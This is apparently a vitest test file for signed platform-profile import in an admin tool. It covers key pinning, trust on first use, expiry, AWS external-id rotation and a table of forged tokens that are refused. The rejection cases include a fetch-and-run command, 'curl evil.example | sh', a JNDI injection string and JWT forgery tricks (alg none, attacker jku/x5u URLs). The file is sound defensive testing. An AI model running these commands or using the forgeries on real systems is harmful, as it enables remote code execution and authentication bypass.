import { createHmac } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { AwsFake, FakePrincipal } from '../fakes/aws/aws-fake.js';
import { awsEnv, startAwsFake } from '../support/aws-env.js';
import { CUSTOMER_ACCOUNT, type Harness, PARTNER_ACCOUNT, createHarness } from '../support/harness.js';
import { ENGINEER, type PlatformTestKey, platformExternalId, platformKey, profilePayload, signProfile, signProfileRaw } from '../support/profile.js';
import { forCloud, ipc } from '../support/contracts.js';

const nowSec = (h: Harness) => Math.floor(h.clock.now() / 1000);


describe('platform profiles: import, trust on first use, and what they configure', () => {
  let aws: AwsFake;
  let session: FakePrincipal;
  let key: PlatformTestKey;
  let h: Harness;

  beforeAll(async () => {
    ({ fake: aws, session } = await startAwsFake());
    key = platformKey();
  });
  afterAll(async () => {
    await aws.stop();
  });
  afterEach(() => h?.close());

  /** The AWS fake's endpoints and the engineer's own session, but no partner account and no HMAC key. */
  const laptop = () => {
    const env = awsEnv(aws, session);
    delete env.ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET;
    delete env.ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID;
    return env;
  };

  it('first import shows the key fingerprint and needs it confirmed; then the profile configures AWS', async () => {
    h = await createHarness({ env: laptop() });
    const before = await h.ok(ipc.settings.status, {});
    expect(before.profile.state).toBe('none');
    expect(before.clouds.find((c) => c.cloud === 'aws')).toMatchObject({ ready: false, missing: expect.arrayContaining([expect.objectContaining({ purpose: "AlphaSwarm's AWS partner account id" })]) });

    const text = signProfile(key, profilePayload(nowSec(h)));
    const inspected = await h.ok(ipc.settings.inspectProfile, { text });
    expect(inspected).toMatchObject({ trust: 'first-use', keyFingerprint: key.kid, engineer: { email: ENGINEER.email }, orgIds: ['acme-corp', 'globex'] });

    // Not without the engineer's confirmation, and never with a fingerprint that is not the signer's.
    expect(await h.fails(ipc.settings.importProfile, { text })).toMatchObject({ code: 'precondition_failed', details: { fingerprint: key.kid, reason: 'trust_required' } });
    expect(await h.fails(ipc.settings.importProfile, { text, acceptFingerprint: platformKey().kid })).toMatchObject({ code: 'precondition_failed', message: expect.stringMatching(/not by the key you confirmed/) });
    expect(h.services.profiles.status().state).toBe('none');

    const imported = await h.ok(ipc.settings.importProfile, { text, acceptFingerprint: key.kid, code: await h.freshCode() });
    expect(imported.profile).toMatchObject({ state: 'active', orgIds: ['acme-corp', 'globex'], trust: { mode: 'first-use', fingerprints: [key.kid] } });
    const after = await h.ok(ipc.settings.status, {});
    expect(after.clouds.find((c) => c.cloud === 'aws')!.ready).toBe(true);
    expect(after.externalIds.source).toBe('profile');
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID')).toMatchObject({ value: '111122223333', source: 'profile' });

    const row = h.services.audit.list({ limit: 5, step: 'profile_import' }).rows[0]!;
    expect(row).toMatchObject({ outcome: 'succeeded', detail: { jti: imported.inspection.jti, engineer: ENGINEER.email, keyFingerprint: key.kid, trust: 'first-use' } });
    // Who did it: the engineer the profile names, from now on.
    expect(h.services.actor).toBe(`app:${ENGINEER.email}`);
    expect(JSON.stringify([...h.services.audit.all()])).not.toContain(text.split('.')[1]!.slice(0, 40));
  });

  it("an org's own AWS role name: the profile's wins over Settings, and Settings lists each with where it is from", async () => {
    h = await createHarness({ env: laptop() });
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid, code: await h.freshCode() });
    await h.stepUp('__platform__');
    // globex has its name in the profile; initech only in Settings; acme-corp follows the pattern.
    // A name set here for globex would never be used: refused before a code is asked for.
    const shown = h.prompts.length;
    expect(await h.fails(ipc.settings.setOrgRoleName, { orgId: 'globex', roleName: 'FromSettings', code: await h.nextCode() })).toMatchObject({ code: 'precondition_failed', message: expect.stringMatching(/comes from your platform profile/) });
    expect(h.prompts).toHaveLength(shown);
    expect(await h.ok(ipc.settings.setOrgRoleName, { orgId: 'initech', roleName: 'InitechRole', code: await h.nextCode() })).toMatchObject({ roleName: 'InitechRole', source: 'settings file' });
    const status = await h.ok(ipc.settings.status, {});
    expect(status.orgRoleNames).toEqual([
      { orgId: 'globex', roleName: 'AlphaSwarmGlobex', source: 'profile' },
      { orgId: 'initech', roleName: 'InitechRole', source: 'settings file' },
    ]);
    expect(await h.ok(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'globex' })).toMatchObject({ roleName: 'AlphaSwarmGlobex' });
  });

  it('later profiles must be signed by the pinned key; an older one never replaces a newer', async () => {
    h = await createHarness({ env: laptop() });
    const first = profilePayload(nowSec(h));
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, first), acceptFingerprint: key.kid, code: await h.freshCode() });

    const stranger = platformKey();
    const foreign = await h.fails(ipc.settings.importProfile, { text: signProfile(stranger, profilePayload(nowSec(h))), acceptFingerprint: stranger.kid });
    expect(foreign).toMatchObject({ details: { reason: 'unknown_kid' }, hint: expect.stringMatching(/ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS/) });

    const older = signProfile(key, profilePayload(nowSec(h), { iat: (first.iat as number) - 3600 }));
    expect(await h.fails(ipc.settings.importProfile, { text: older })).toMatchObject({ details: { reason: 'downgrade' }, message: expect.stringMatching(/before the one in use/) });
    // The same profile again changes nothing.
    expect(await h.ok(ipc.settings.importProfile, { text: signProfile(key, first) })).toMatchObject({ profile: { jti: first.jti } });
    h.clock.advance(60_000);
    const newer = profilePayload(nowSec(h), { orgs: [{ org_id: 'acme-corp', aws_external_id: platformExternalId('acme-corp', 'rotated-platform-key-0123456789') }] });
    const r = await h.ok(ipc.settings.importProfile, { text: signProfile(key, newer) });
    expect(r.profile).toMatchObject({ jti: newer.jti, orgIds: ['acme-corp'] });
    expect(r.inspection.changes.changedExternalIds).toEqual(['acme-corp']);
  });

  it('pinned by ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS: no trust on first use, an ES256 key works too', async () => {
    const es = platformKey('ES256');
    h = await createHarness({ env: { ...laptop(), ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS: JSON.stringify({ keys: [es.publicJwk] }) } });
    await h.ok(ipc.settings.importProfile, { text: signProfile(es, profilePayload(nowSec(h))), code: await h.freshCode() });
    expect(h.services.profiles.status()).toMatchObject({ state: 'active', trust: { mode: 'configured', fingerprints: [es.kid] } });
    // A profile by any other key is refused even with a confirmation: the setting decides.
    expect(await h.fails(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid })).toMatchObject({ details: { reason: 'alg_not_pinned' } });
  });

  it('an expired profile stops being used, and says so', async () => {
    h = await createHarness({ env: laptop() });
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h), { exp: nowSec(h) + 3600 })), acceptFingerprint: key.kid, code: await h.freshCode() });
    expect(h.services.awsIdentity.externalId('acme-corp').source).toBe('profile');
    h.clock.advance(2 * 3600_000);
    const status = await h.ok(ipc.settings.status, {});
    expect(status.profile).toMatchObject({ state: 'expired', message: expect.stringMatching(/expired on .*no longer used/) });
    expect(status.clouds.find((c) => c.cloud === 'aws')!.ready).toBe(false);
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID').source).toBe('unset');
    expect(await h.fails(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'acme-corp' })).toMatchObject({ code: 'config_missing' });
    expect(h.services.actor).toMatch(/\(not verified\)$/);
  });

  it('with no HMAC key anywhere, the profile gives AWS its external id end to end; an unassigned org fails', async () => {
    h = await createHarness({ env: { ...laptop() } });
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid, code: await h.freshCode() });
    const boot = forCloud(await h.ok(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'acme-corp' }), 'aws');
    expect(boot).toMatchObject({ externalId: platformExternalId('acme-corp'), externalIdSource: 'profile', roleName: 'alphaswarm-broker-acme-corp' });
    // A per-org role name from the profile.
    expect(await h.ok(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'globex' })).toMatchObject({ roleName: 'AlphaSwarmGlobex', roleNameSource: 'profile' });

    aws.roles.clear();
    aws.addRole({ accountId: CUSTOMER_ACCOUNT, roleName: 'alphaswarm-broker-acme-corp', trustedAccountId: PARTNER_ACCOUNT, externalIds: [platformExternalId('acme-corp')] });
    await h.stepUp('acme-corp');
    const target = { cloud: 'aws' as const, orgId: 'acme-corp', roleArn: `arn:aws:iam::${CUSTOMER_ACCOUNT}:role/alphaswarm-broker-acme-corp` };
    await h.ok(ipc.cloud.validateIdentity, target);
    await h.ok(ipc.cloud.validatePermissions, target);
    const saved = await h.ok(ipc.cloud.connect, target);
    expect(saved.connection.record.external_id).toBe(platformExternalId('acme-corp'));

    const unassigned = await h.fails(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'initech' });
    expect(unassigned).toMatchObject({ code: 'config_missing', message: 'initech is not assigned to you: import a profile that includes it, or set ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET.' });
    // Checked before step-up: an unassigned org never costs a code.
    h.services.grants.revokeAll();
    expect(await h.fails(ipc.cloud.validateIdentity, { ...target, orgId: 'initech', roleArn: target.roleArn })).toMatchObject({ code: 'config_missing' });
  });

  it('a profile and an HMAC key that disagree are refused, showing both', async () => {
    const hmac = 'admin-machine-hmac-key-0123456789';
    h = await createHarness({ env: { ...laptop(), ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET: hmac } });
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid, code: await h.freshCode() });
    const e = await h.fails(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'acme-corp' });
    const derived = createHmac('sha256', hmac).update('aws:acme-corp').digest('hex');
    expect(e).toMatchObject({ code: 'config_invalid', details: { profileExternalId: platformExternalId('acme-corp'), keyExternalId: derived } });
    expect(e.message).toContain('Nothing was chosen');
    // Where the key gives an id the profile does not know, the key is used.
    expect(await h.ok(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'initech' })).toMatchObject({ externalIdSource: 'key', externalId: createHmac('sha256', hmac).update('aws:initech').digest('hex') });
  });

  it('a newer profile with a different external id marks the connection rotated and hands out the dual-id policy', async () => {
    h = await createHarness({ env: laptop() });
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid, code: await h.freshCode() });
    aws.roles.clear();
    const role = aws.addRole({ accountId: CUSTOMER_ACCOUNT, roleName: 'alphaswarm-broker-acme-corp', trustedAccountId: PARTNER_ACCOUNT, externalIds: [platformExternalId('acme-corp')] });
    await h.stepUp('acme-corp');
    const target = { cloud: 'aws' as const, orgId: 'acme-corp', roleArn: role.arn };
    await h.ok(ipc.cloud.validateIdentity, target);
    await h.ok(ipc.cloud.validatePermissions, target);
    await h.ok(ipc.cloud.connect, target);

    h.clock.advance(60_000);
    const rotatedId = platformExternalId('acme-corp', 'rotated-platform-key-0123456789');
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h), { orgs: [{ org_id: 'acme-corp', aws_external_id: rotatedId }] })) });
    const [listed] = (await h.ok(ipc.cloud.list, { orgId: 'acme-corp' })).connections;
    expect(listed!.status).toBe('rotated_key');
    const boot = forCloud(await h.ok(ipc.cloud.bootstrap, { cloud: 'aws', orgId: 'acme-corp' }), 'aws');
    expect(boot.rotation).toMatchObject({ oldExternalId: platformExternalId('acme-corp'), newExternalId: rotatedId });
  });
});

describe('platform profiles: every rejection class, each with its reason', () => {
  let h: Harness;
  let key: PlatformTestKey;
  beforeAll(async () => {
    key = platformKey();
    h = await createHarness();
    // Pin the key first, so every forgery below is judged against a pinned key.
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid, code: await h.freshCode() });
  });
  afterAll(() => h.close());

  const now = () => nowSec(h);
  const header = (o: Record<string, unknown> = {}) => JSON.stringify({ alg: 'EdDSA', typ: 'alphaswarm-profile+jwt', kid: key.kid, ...o });
  const body = (o: Record<string, unknown> = {}) => JSON.stringify(profilePayload(now(), { iat: now() + 1, ...o }));
  const b64 = (s: string) => Buffer.from(s).toString('base64url');

  const cases: [string, () => string, string, RegExp][] = [
    ['alg none', () => `${b64(header({ alg: 'none' }))}.${b64(body())}.`, 'alg_none', /unsigned/],
    ['an HMAC algorithm', () => `${b64(header({ alg: 'HS256' }))}.${b64(body())}.${b64('x'.repeat(32))}`, 'alg_hmac', /HMAC/],
    ['an algorithm the key does not pin', () => signProfileRaw(key, header({ alg: 'ES256' }), body()), 'alg_not_pinned', /pins EdDSA/],
    ['a critical extension', () => signProfileRaw(key, header({ crit: ['exp'] }), body()), 'crit', /critical/],
    ['b64: false', () => signProfileRaw(key, header({ b64: false }), body()), 'bad_header', /"b64"/],
    ['a key URL (jku)', () => signProfileRaw(key, header({ jku: 'https://evil.example/keys' }), body()), 'bad_header', /"jku"/],
    ['a certificate URL (x5u)', () => signProfileRaw(key, header({ x5u: 'https://evil.example/cert' }), body()), 'bad_header', /"x5u"/],
    ['an embedded key that is not the kid', () => signProfileRaw(key, header({ jwk: platformKey().publicJwk }), body()), 'bad_header', /thumbprint/],
    ['another token type', () => signProfileRaw(key, header({ typ: 'JWT' }), body()), 'wrong_type', /not "alphaswarm-profile\+jwt"/],
    ['an unknown key', () => signProfileRaw(key, header({ kid: 'x'.repeat(43) }), body()), 'unknown_kid', /not among the trusted keys/],
    ['a bad signature', () => signProfileRaw(platformKey(), header(), body()), 'bad_signature', /signature does not match/],
    ['a key named twice', () => signProfileRaw(key, header(), body().replace('"iss":', '"iss":"https://evil.example","iss":')), 'duplicate_key', /"iss" twice/],
    ['a lone surrogate', () => signProfileRaw(key, header(), body().replace('"iss":', '"note":"\\udc00","iss":')), 'malformed', /not I-JSON.*lone surrogate/],
    ['a number beyond 2^53', () => signProfileRaw(key, header(), body({ exp: 2 ** 53 + 2 })), 'malformed', /not I-JSON.*not a whole number/],
    ['a fraction', () => signProfileRaw(key, header(), body({ exp: now() + 0.5 })), 'malformed', /not I-JSON/],
    ['a secret in its settings', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET: 'x'.repeat(40) } })), 'bad_payload', /a secret/],
    ['a setting only the engineer may set', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND: 'curl evil.example | sh' } })), 'bad_payload', /only you may set/],
    ['an unknown setting', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_NOPE: 'x' } })), 'bad_payload', /does not know/],
    ['an invalid setting value', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_AZURE_AUDIENCE: '${jndi:x}' } })), 'bad_payload', /ALPHASWARM_ADMIN_AZURE_AUDIENCE/],
    ['an org assigned twice', () => signProfileRaw(key, header(), body({ orgs: [{ org_id: 'a1', aws_external_id: 'abc' }, { org_id: 'a1', aws_external_id: 'abd' }] })), 'bad_payload', /assigned twice/],
    ['an external id AWS would refuse', () => signProfileRaw(key, header(), body({ orgs: [{ org_id: 'a1', aws_external_id: 'has space' }] })), 'bad_payload', /external id/],
    ['sub not the engineer', () => signProfileRaw(key, header(), body({ sub: 'mallory@evil.example' })), 'bad_payload', /names mallory/],
    ['another issuer', () => signProfileRaw(key, header(), body({ iss: 'https://evil.example/platform' })), 'wrong_issuer', /issued by/],
    ['expired', () => signProfileRaw(key, header(), body({ iat: now() - 7200, exp: now() - 3600 })), 'expired', /expired at/],
    ['issued in the future', () => signProfileRaw(key, header(), body({ iat: now() + 7200 })), 'not_yet_valid', /in the future/],
    ['valid for ten years', () => signProfileRaw(key, header(), body({ exp: now() + 3650 * 86400 })), 'lifetime_too_long', /at most 400 days/],
    ['too large', () => signProfileRaw(key, header(), body({ engineer: { name: 'x'.repeat(3_000_000), email: 'jane@alpha-swarm.ai' } })), 'too_large', /limit/],
    ['an encrypted JWE', () => 'eyJhbGciOiJSU0EtT0FFUC0yNTYifQ.a.b.c.d', 'malformed', /encrypted JWE/],
  ];

  for (const [name, make, reason, message] of cases) {
    it(`refuses ${name} (${reason}), and changes nothing`, async () => {
      const before = h.services.profiles.status().jti;
      const text = make();
      if (Buffer.byteLength(text) > 2 * 1024 * 1024) {
        // Bigger than the window may send: the contract refuses it before anything reads it.
        expect(await h.fails(ipc.settings.importProfile, { text })).toMatchObject({ code: 'payload_too_large' });
        return;
      }
      const e = await h.fails(ipc.settings.importProfile, { text });
      expect(e).toMatchObject({ details: { reason } });
      expect(e.message).toMatch(message);
      expect(e.hint.length).toBeGreaterThan(10);
      expect(h.services.profiles.status().jti).toBe(before);
    });
  }
});
